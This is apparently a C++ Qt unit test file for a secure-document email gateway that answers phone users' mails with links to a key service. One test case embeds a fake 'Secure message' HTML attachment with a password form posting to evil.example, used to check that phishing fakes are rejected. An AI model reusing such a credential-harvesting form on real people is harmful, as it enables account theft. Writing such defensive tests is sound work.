// SPDX-FileCopyrightText: The securedoc authors
// SPDX-License-Identifier: Apache-2.0
#include "server/gateway/mobile/mobile_desk.h"

#include "core/base/base64.h"
#include "core/protocol/envelope_messages.h"
#include "server/http/server.h"

#include <QFile>
#include <QTemporaryDir>
#include <QTest>

#include "tests/server/gateway/reply_fixture.h"

using base::ErrorCode;
using gateway::MobileDesk;

namespace {

constexpr const char* kPhone = "john@example.net";

/// The key service's side of it, over HTTP: answers what it is told to and keeps what it gets.
class Service final {
public:
    Service() {
        http::Router router;
        router.add(
            http::Method::Post, "/v1/mobile-envelopes", [this](http::Request request, http::Respond respond) {
                ++uploads;
                body = std::move(request.body);
                credential = std::string(request.header("Authorization"));
                respond(
                    {status, status == 201 ? "application/json" : "application/problem+json", answer, {}});
            });
        http::ServerOptions options;
        options.listen = {"127.0.0.1:0"};
        m_server = std::move(*http::Server::listen(std::move(options), std::move(router)));
        m_thread = std::thread([this] { m_server->run([] {}); });
    }
    ~Service() {
        m_server->stop();
        m_thread.join();
    }
    std::string origin() const { return m_server->origins().front(); }

    int status = 201;
    std::string answer =
        R"({"url": "https://keys.hospital.example/m/token", "expires_at": "2026-11-24T07:14:35Z"})";
    std::atomic<int> uploads = 0;
    std::string body, credential;

private:
    std::unique_ptr<http::Server> m_server;
    std::thread m_thread;
};

std::string attached(const std::string& file) {
    const std::string encoded = base::encodeBase64(base::bytesOf(file));
    std::string mail =
        "From: john@example.net\r\nTo: mobile@hospital.example\r\nMessage-ID: <1@example.net>\r\n"
        "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n\r\nplease\r\n"
        "--b\r\nContent-Type: text/html; name=securedoc_1.html\r\n"
        "Content-Disposition: attachment; filename=securedoc_1.html\r\n"
        "Content-Transfer-Encoding: base64\r\n\r\n";
    for (std::size_t at = 0; at < encoded.size(); at += 76)
        mail += encoded.substr(at, 76) + "\r\n";
    return mail + "--b--\r\n";
}

} // namespace

class MobileDeskTest final : public QObject {
    Q_OBJECT

    struct Bench {
        Bench() {
            institution.config.service.url = service.origin();
            institution.config.service.credential = base::SecretBytes::fromText("credential");
            institution.config.mobile.address = "mobile@hospital.example";
            institution.config.mobile.hourlyLimit = 3;
        }
        base::Result<logging::Entry> answer(const std::string& mail, const std::string& sender = kPhone,
                                            std::int64_t now = fixture::kNow) {
            return desk.answer(sender, files::MemorySource(fixture::bytesOf(mail)), now);
        }
        std::string whole() const { return attached(institution.envelopeFile()); }
        /// What waits for the mail server, which is not there.
        QByteArray mails() const {
            QByteArray all;
            for (const auto& entry : std::filesystem::directory_iterator(notices)) {
                QFile file(QString::fromStdString(entry.path().string()));
                if (entry.path().extension() == ".eml" && file.open(QIODevice::ReadOnly))
                    all += file.readAll();
            }
            return all;
        }

        QTemporaryDir folder;
        Service service;
        fixture::Institution institution{folder.path().toStdString()};
        std::filesystem::path notices{folder.filePath(QStringLiteral("notices")).toStdString()};
        std::unique_ptr<gateway::NoticeOutbox> outbox =
            gateway::NoticeOutbox::open(notices, {"127.0.0.1", "1"}).value();
        gateway::ServiceClient client{institution.config.service};
        MobileDesk desk{institution.config.mobile, institution.config.institution, client, *outbox};
    };

private Q_SLOTS:
    void address_isComparedWithoutCase() {
        Bench bench;
        QVERIFY(bench.desk.isOurs("Mobile@HOSPITAL.example"));
        QVERIFY(!bench.desk.isOurs("mobile2@hospital.example"));
        bench.institution.config.mobile.address.clear();
        QVERIFY(!bench.desk.isOurs(""));
    }

    void envelope_isUploadedAsItIsAndAnsweredWithALinkOnce() {
        Bench bench;
        const auto answered = bench.answer(bench.whole());
        QVERIFY2(answered.has_value(), answered ? "" : answered.error().detail.c_str());
        QCOMPARE(logging::sentenceOf(*answered), std::string("mobile: answered with mobile-link"));
        QVERIFY(bench.service.body == bench.institution.envelopeFile());
        QCOMPARE(bench.service.credential, std::string("Bearer credential"));
        const QByteArray mail = bench.mails();
        QVERIFY2(mail.contains("https://keys.hospital.example/m/token"), mail);
        QVERIFY(mail.contains("In-Reply-To: <1@example.net>"));
        QCOMPARE(logging::sentenceOf(*bench.answer(bench.whole())),
                 std::string("mobile: not answered, answered before"));
        QCOMPARE(bench.service.uploads.load(), 1);
    }

    void mailWithoutOurEnvelope_isAnsweredWithWhatToDo_data() {
        QTest::addColumn<QString>("what");
        QTest::addColumn<QString>("kind");
        QTest::newRow("nothing") << "nothing"
                                 << "mobile-nothing";
        QTest::newRow("fake") << "fake"
                              << "mobile-fake";
        QTest::newRow("elsewhere") << "elsewhere"
                                   << "mobile-elsewhere";
        QTest::newRow("large") << "large"
                               << "mobile-large";
    }
    void mailWithoutOurEnvelope_isAnsweredWithWhatToDo() {
        QFETCH(QString, what);
        QFETCH(QString, kind);
        Bench bench;
        std::string mail = bench.whole();
        if (what == QLatin1String("nothing"))
            mail = "From: john@example.net\r\nSubject: hello\r\n\r\nwords\r\n";
        if (what == QLatin1String("fake"))
            mail = attached(
                "<html><title>Secure message</title><form action='http://evil.example/x' method=post>"
                "<input type=email><input type=password name=p><input type=submit></form></html>");
        if (what == QLatin1String("elsewhere"))
            bench.institution.config.institution.issuer = "https://keys.other.example";
        if (what == QLatin1String("large"))
            bench.institution.config.mobile.sizeLimit = 100;
        const auto answered = bench.answer(mail);
        QVERIFY(answered.has_value());
        QCOMPARE(logging::sentenceOf(*answered), "mobile: answered with " + kind.toStdString());
        QCOMPARE(bench.service.uploads.load(), 0);
    }

    void servicesRefusals_areTold_data() {
        QTest::addColumn<int>("status");
        QTest::addColumn<int>("code");
        QTest::addColumn<QByteArray>("kind"); // empty: the mail comes again
        const auto row = [](int status, ErrorCode code, const char* kind) {
            QTest::newRow(base::errorName(code).data())
                << status << static_cast<int>(code) << QByteArray(kind);
        };
        row(423, ErrorCode::EnvelopeLocked, "mobile-locked");
        row(410, ErrorCode::EnvelopeExpired, "mobile-expired");
        row(404, ErrorCode::UnknownEnvelope, "mobile-elsewhere");
        row(413, ErrorCode::LimitExceeded, "mobile-large");
        row(503, ErrorCode::ServiceUnavailable, "");
        row(403, ErrorCode::NotAuthorized, "");
    }
    void servicesRefusals_areTold() {
        QFETCH(int, status);
        QFETCH(int, code);
        QFETCH(QByteArray, kind);
        Bench bench;
        bench.service.status = status;
        bench.service.answer = "{\"type\": \"" + protocol::problemType(static_cast<ErrorCode>(code)) +
                               "\", \"title\": \"no\", \"status\": " + std::to_string(status) + "}";
        const auto answered = bench.answer(bench.whole());
        if (kind.isEmpty()) {
            QVERIFY(!answered.has_value());
            QVERIFY(bench.mails().isEmpty());
        } else {
            QVERIFY2(answered.has_value(), answered ? "" : answered.error().detail.c_str());
            QCOMPARE(logging::sentenceOf(*answered), "mobile: answered with " + kind.toStdString());
        }
    }

    void linkThatLeadsElsewhere_isNotPassedOn() {
        Bench bench;
        bench.service.answer =
            R"({"url": "https://evil.example/m/token", "expires_at": "2026-11-24T07:14:35Z"})";
        QVERIFY(!bench.answer(bench.whole()).has_value());
        QVERIFY(bench.mails().isEmpty());
    }

    void machinesAndLists_getNoAnswer_data() {
        QTest::addColumn<QByteArray>("sender");
        QTest::addColumn<QByteArray>("field");
        QTest::newRow("bounce") << QByteArray() << QByteArray();
        QTest::newRow("itself") << QByteArray("mobile@hospital.example") << QByteArray();
        QTest::newRow("automatic") << QByteArray(kPhone) << QByteArray("Auto-Submitted: auto-replied\r\n");
        QTest::newRow("list") << QByteArray(kPhone) << QByteArray("List-Id: <all.example.net>\r\n");
        QTest::newRow("bulk") << QByteArray(kPhone) << QByteArray("Precedence: bulk\r\n");
    }
    void machinesAndLists_getNoAnswer() {
        QFETCH(QByteArray, sender);
        QFETCH(QByteArray, field);
        Bench bench;
        const auto answered = bench.answer(field.toStdString() + bench.whole(), sender.toStdString());
        QVERIFY(answered && logging::sentenceOf(*answered).find("not answered") != std::string::npos);
        QVERIFY(bench.mails().isEmpty());
        QCOMPARE(bench.service.uploads.load(), 0);
    }

    void whoeverWritesTooOften_waitsAnHour() {
        Bench bench;
        for (int i = 0; i < 4; ++i) {
            const auto answered = bench.answer("X-Number: " + std::to_string(i) + "\r\n" + bench.whole());
            QCOMPARE(logging::sentenceOf(*answered).find("too many") == std::string::npos, i < 3);
        }
        const auto elsewhere = bench.answer("X-Number: 9\r\n" + bench.whole(), "other@example.net");
        QVERIFY(logging::sentenceOf(*elsewhere).find("mobile-link") != std::string::npos);
        const auto later = bench.answer("X-Number: 8\r\n" + bench.whole(), kPhone, fixture::kNow + 3600);
        QVERIFY(logging::sentenceOf(*later).find("mobile-link") != std::string::npos);
    }
};

QTEST_GUILESS_MAIN(MobileDeskTest)
#include "mobile_desk_test.moc"
